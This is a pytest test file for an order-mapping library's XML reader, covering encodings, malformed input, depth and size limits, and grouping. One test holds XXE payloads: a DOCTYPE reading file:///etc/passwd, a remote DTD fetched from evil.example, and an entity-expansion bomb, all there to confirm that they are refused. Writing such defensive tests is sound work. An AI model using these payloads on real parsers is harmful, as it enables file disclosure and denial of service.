from decimal import Decimal

import pytest
from tests.mapping.building import (
    PLACE,
    field,
    item,
    lines,
    message,
    path,
    program,
    said,
    split,
    told,
)

from orderloom.definition.mapping import Item, Source, Step
from orderloom.definition.mapping import Path as MappingPath
from orderloom.errors import MessageRejected
from orderloom.expression.values import Money


def xml(each=None, **more):
    return Source(format="xml", place=PLACE, each=each and path(each), **more)


def attribute(text, kind="text", **more):
    *front, last = text.split(".")
    steps = (*(path(".".join(front)).steps if front else ()), Step(key=last))
    found = MappingPath(text=text, steps=steps)
    return Item(target=field("value", kind), kind=kind, place=PLACE, path=found, **more)


def only(items):
    [found] = items
    return found


def refusal(made, body):
    with pytest.raises(MessageRejected) as caught:
        split(made, body)
    return said(caught.value)


TAGS = field("tags", "list", item=field("tags"))
ORDERS = program({}, xml("Orders.Order[*]"))


def test_rows_are_elements_and_say_their_line():
    body = "<Orders>\n  <Order><no>A1</no></Order>\n  <Order>\n<no>A2</no></Order></Orders>"
    assert [(found.key, found.where) for found in split(ORDERS, body)] == [
        ("A1", "Orders.Order[0] (line 2)"),
        ("A2", "Orders.Order[1] (line 3)"),
    ]


def test_an_element_that_stands_alone_is_a_list_of_one():
    body = """<Orders><Order><no>A1</no><lines>
        <line><sku>x</sku></line></lines><tag>new</tag><note at="1">hi</note></Order></Orders>"""
    items = {
        "lines": lines({"sku": item("sku")}, each="lines.line[*]"),
        "tags": item("tag", target=TAGS, kind="list"),
        "first": item("note[0]"),
    }
    assert only(split(program(items, xml("Orders.Order[*]")), body)).values == {
        "no": "A1", "lines": [{"sku": "x"}], "tags": ["new"], "first": "hi",
    }  # fmt: skip


def test_repeated_elements_are_a_list():
    body = """<Orders><Order><no>A1</no><line><sku n="1">x</sku></line>
        <line><sku>y</sku></line><tag>new</tag><tag>big</tag></Order></Orders>"""
    items = {
        "lines": lines({"sku": item("sku"), "n": attribute("sku.@n", "integer")}, each="line[*]"),
        "tags": item("tag", target=TAGS, kind="list"),
        "second": item("tag[1]"),
    }
    assert only(split(program(items, xml("Orders.Order[*]")), body)).values == {
        "no": "A1", "lines": [{"sku": "x", "n": 1}, {"sku": "y"}], "tags": ["new", "big"],
        "second": "big",
    }  # fmt: skip


def test_a_list_without_elements_is_empty_or_left_as_it_is():
    body = "<Orders><Order><no>A1</no><lines/></Order></Orders>"
    items = {
        "lines": lines({"sku": item("sku")}, each="lines[*]"),
        "others": lines({"sku": item("sku")}, each="others.line[*]"),
    }
    assert only(split(program(items, xml("Orders.Order[*]")), body)).values == {
        "no": "A1", "lines": None,
    }  # fmt: skip


def test_attributes_and_text_are_reached_beside_each_other():
    body = '<Orders><Order no="A1"><price cur="CNY"> 5.50 </price><price2/></Order></Orders>'
    items = {
        "no": attribute("@no"),
        "price": item("price", "money"),
        "currency": attribute("price.@cur"),
    }
    assert only(split(program(items, xml("Orders.Order[*]")), body)).values == {
        "no": "A1", "price": Money(Decimal("5.50"), "CNY"), "currency": "CNY",
    }  # fmt: skip


def test_namespaces_comments_and_character_data_do_not_matter():
    body = """<?xml version="1.0"?><o:Orders xmlns:o="http://x" xmlns="http://y"><o:Order>
        <!-- <no>A9</no> --><no><![CDATA[A<1>]]></no></o:Order></o:Orders>"""
    assert only(split(ORDERS, body)).key == "A<1>"


def test_without_each_the_document_is_one_item_read_from_its_root():
    made = program({"no": item("xml.out_trade_no")}, xml())
    found = only(split(made, "<xml><out_trade_no>A1</out_trade_no></xml>"))
    assert (found.key, found.where) == ("A1", "document")


def test_an_element_that_should_stand_once_and_stands_twice_is_refused():
    body = "<Orders><Order><no>A1</no><paid>199</paid><paid>1</paid></Order></Orders>"
    made = program({"paid": item("paid", "money")}, xml("Orders.Order[*]"))
    assert told(split(made, body)) == [
        "Orders.Order[0] (line 1): 'list' is not an amount of money, as 'paid' wants"
    ]


@pytest.mark.parametrize(
    ("declared", "codec"),
    [("GBK", "gbk"), ("gb2312", "gb2312"), ("UTF-8", "utf-8"), ("utf-16", "utf-16"),
     ("big5", "big5")],
)  # fmt: skip
def test_a_file_is_read_in_the_encoding_that_it_declares(declared, codec):
    body = (
        f'<?xml version="1.0" encoding="{declared}"?><Orders><Order><no>订A</no></Order></Orders>'
    )
    body = body.replace("订", "中")
    assert only(split(ORDERS, body.encode(codec))).key == "中A"


def test_a_byte_order_mark_stands_for_a_declaration():
    body = "<Orders><Order><no>订</no></Order></Orders>"
    assert only(split(ORDERS, body.encode("utf-8-sig"))).key == "订"
    assert only(split(ORDERS, body.encode("utf-16"))).key == "订"


def test_what_the_mapping_says_stands_before_what_the_file_declares():
    body = '<?xml version="1.0" encoding="UTF-8"?><Orders><Order><no>订</no></Order></Orders>'
    made = program({}, xml("Orders.Order[*]", encoding="gbk"))
    assert only(split(made, body.encode("gbk"))).key == "订"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            '<?xml version="1.0" encoding="UTF-8"?><a>订</a>'.encode("gbk"),
            "the text is not UTF-8: byte 41 (line 1) cannot be read",
        ),
        ("<a>订</a>".encode("gbk"), "the text is not UTF-8: byte 3 (line 1) cannot be read"),
        (
            b'<?xml version="1.0" encoding="ebcdic-cp-us"?><a/>',
            "the XML declares the encoding 'ebcdic-cp-us', which is not read",
        ),
        (
            b'\xef\xbb\xbf<?xml version="1.0" encoding="GBK"?><a/>',
            "the XML begins as UTF-8 but declares 'GBK'",
        ),
        (
            b'<?xml version="1.0" encoding="UTF-16"?><a/>',
            "the XML begins as UTF-8 but declares 'UTF-16'",
        ),
    ],
)
def test_an_encoding_is_never_guessed(body, expected):
    assert refusal(ORDERS, body) == expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "<Orders>\n<Order></Orders>",
            "line 2, column 10: 'Order' is still open and is not what is closed here",
        ),
        ("<Orders>\n订<Order", "the XML stops in the middle, at line 2, column 2"),
        ("<Orders>", "the XML stops in the middle, at line 1, column 9"),
        ("订单,金额", "line 1, column 1: 'xx,xx' is not well-formed XML here"),
        ("<a>订单 & b</a>", "line 1, column 8: 'x</x>' is not well-formed XML here"),
        ("<a>&nbsp;</a>", "line 1, column 4: '&xxxx;</x>' is not well-formed XML here"),
        ("<a>\0</a>", "line 1, column 4: 'U+0000</x>' is not well-formed XML here"),
        (
            '<a b="1" b="2"/>',
            "line 1, column 10: 'x=\"0\"/>' is not well-formed XML here",
        ),
        ("<a/><b/>", "line 1, column 5: '<x/>' is not well-formed XML here"),
        (" ", "the message is empty"),
    ],
)
def test_what_is_not_xml_is_refused_where_it_breaks(body, expected):
    assert refusal(ORDERS, body) == expected


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE a>",
        '<!DOCTYPE a SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE a [<!ENTITY x "y">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    ],
)
def test_any_doctype_is_refused(doctype):
    body = f'<?xml version="1.0"?>\n{doctype}<a>&c;</a>'
    assert refusal(ORDERS, body) == "line 2 has a DOCTYPE, which is never taken"


def test_a_doctype_in_text_is_text():
    body = "<Orders><Order><no><![CDATA[<!DOCTYPE a>]]></no></Order></Orders>"
    assert only(split(ORDERS, body)).key == "<!DOCTYPE a>"


def test_elements_may_be_nested_64_deep_and_no_deeper():
    made = program({}, xml("a"))
    fits = "<a>" * 64 + "</a>" * 64
    assert len(split(made, fits)) == 1
    assert refusal(made, "<a>\n" * 100_000) == ("line 65: the elements are nested deeper than 64")


def test_size_and_number_of_elements_are_bounded():
    assert refusal(ORDERS, "<a>" + " " * 16 * 1024 * 1024) == (
        "the message has 16777219 bytes, more than 16777216"
    )
    assert refusal(ORDERS, "<a>" + "<b/>" * 500_000) == (
        "line 1: the XML has more than 500000 elements"
    )


@pytest.mark.parametrize(
    ("each", "body", "expected"),
    [
        (
            "Orders.Order[*]",
            "<orders><Order/></orders>",
            "the path 'Orders.Order[*]' is absent: document has no 'Orders'",
        ),
        (
            "Answer.Body.Order[*]",
            "<Answer><Bdy><Order/></Bdy></Answer>",
            "the path 'Answer.Body.Order[*]' is absent: Answer has no 'Body'",
        ),
        (
            "Answer.Body.Order[*]",
            "<Answer><Body/><Body><Order/></Body></Answer>",
            "the path 'Answer.Body.Order[*]' does not fit: Answer.Body is list, not object",
        ),
    ],
)
def test_a_way_to_the_rows_that_is_not_there_is_refused(each, body, expected):
    assert refusal(program({}, xml(each)), body) == expected


def test_no_rows_are_a_result():
    assert split(ORDERS, "<Orders/>") == []
    assert split(ORDERS, "<Orders><code>0</code></Orders>") == []


def test_each_may_go_through_one_of_several():
    body = "<A><B><O><no>A1</no></O></B><B><O><no>A2</no></O></B></A>"
    assert only(split(program({}, xml("A.B[1].O[*]")), body)).key == "A2"


def test_a_row_without_parts_has_no_identity():
    assert told(split(ORDERS, "<Orders><Order/><Order>x</Order></Orders>")) == [
        "Orders.Order[0] (line 1): the field 'no' is part of the identity and has no value",
        "Orders.Order[1] (line 1): the field 'no' is part of the identity and has no value",
    ]


def test_rows_are_joined_by_texts_and_attributes():
    body = """<Os><O day="1"><no at="x">A</no><sku>1</sku></O><O day="2"><no>A</no></O>
        <O day="1"><no>A</no><sku>2</sku></O></Os>"""
    made = program(
        {"skus": lines({"sku": item("sku")}, each="=rows")}, xml("Os.O[*]"),
        group_by=("no", "@day"),
    )  # fmt: skip
    assert [found.values for found in split(made, body)] == [
        {"no": "A", "skus": [{"sku": "1"}, {"sku": "2"}]},
        {"no": "A", "skus": [{}]},
    ]


def test_the_same_bytes_give_the_same_items_from_any_start():
    body = "<Orders>" + "".join(f"<Order><no>A{n}</no></Order>" for n in range(5)) + "</Orders>"
    whole = split(ORDERS, body)
    assert [list(ORDERS.split(message(body), start)) for start in range(6)] == [
        whole[start:] for start in range(6)
    ]
